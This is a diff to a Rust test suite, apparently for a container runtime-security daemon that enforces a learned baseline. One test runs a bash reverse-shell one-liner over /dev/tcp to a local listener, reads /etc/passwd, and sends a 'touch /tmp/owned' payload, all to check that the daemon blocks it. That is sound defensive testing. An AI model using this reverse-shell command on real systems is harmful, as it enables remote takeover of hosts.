@@ -7,7 +7,6 @@ use crate::lab::Peer;
 use crate::pace;
 use crate::refusals::lsm;
 use crate::restart::Bpffs;
-use crate::shared;
 use anyhow::{Context, Result, ensure};
 use serde_json::Value;
 use std::fs;
@@ -36,7 +35,7 @@ pub struct Play {
 fn play() -> Result<Play> {
     let group = Group::make()?;
     let containers = [Container::start(&group)?, Container::start(&group)?];
-    play_with(group, containers, "runtime_exec = \"deny\"", Some(shared::pins()?.pins("keep")))
+    play_with(group, containers, "runtime_exec = \"deny\"", None)
 }
 
 /// With containers and settings of the caller's; `rest` is what else is in `[baseline]`.
@@ -143,7 +142,8 @@ pub fn learned_baseline_is_held() -> Result<()> {
     let play = play()?;
     let [one, two] = &play.containers;
     for container in [one, two] {
-        ensure!(container.run(WORK)?.success(), "the work fails");
+        let end = container.run(WORK)?;
+        ensure!(end.success(), "the work fails ({end}): {:#?}", play.daemon.rows());
     }
     let peer = Peer::shell(one.listen()?, "touch /tmp/owned\n", pace::wait(Duration::from_secs(2)))?;
     one.run(&format!("wc -l /etc/passwd; bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
